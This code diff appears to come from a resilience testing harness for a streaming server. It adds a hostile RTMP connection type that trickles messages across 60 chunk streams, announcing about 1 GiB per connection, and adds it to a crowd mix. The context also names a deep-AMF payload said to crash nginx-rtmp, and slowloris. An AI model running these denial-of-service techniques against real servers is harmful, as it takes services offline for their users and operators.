@@ -80,6 +80,14 @@ export const hostileKinds = {
       await trickleHugeMessages(socket, options, attempt.stats, signal);
     }),
 
+  /** The same on 60 chunk streams at once (chunk size 64), each announcing 16 MiB: ~1 GiB announced per connection. */
+  rtmpTrickle16MBChunkStreams: loop(async (target, attempt, signal) => {
+    const socket = await open(target.host, target.rtmpPort, attempt);
+    await rtmpHandshake(socket);
+    const options = { chunkStreams: 60, bytesPerStep: 64, stepIntervalMs: 50, lifetimeMs: 3_000 };
+    await trickleHugeMessages(socket, options, attempt.stats, signal);
+  }),
+
   /** A `connect` whose AMF0 command object nests 50 000 deep (it segfaults nginx-rtmp). */
   rtmpDeepAmf: loop(async (target, attempt, signal) => {
     const socket = await open(target.host, target.rtmpPort, attempt);
@@ -152,6 +160,7 @@ export const ISSUE_8_CROWD: Readonly<CrowdMix> = Object.freeze({
   rtmpRandomBytes: 2,
   rtmpGarbageAfterHandshake: 2,
   rtmpTrickle16MB: 6,
+  rtmpTrickle16MBChunkStreams: 2,
   rtmpDeepAmf: 1,
   rtmpIdle: 300,
   httpSlowloris: 20,
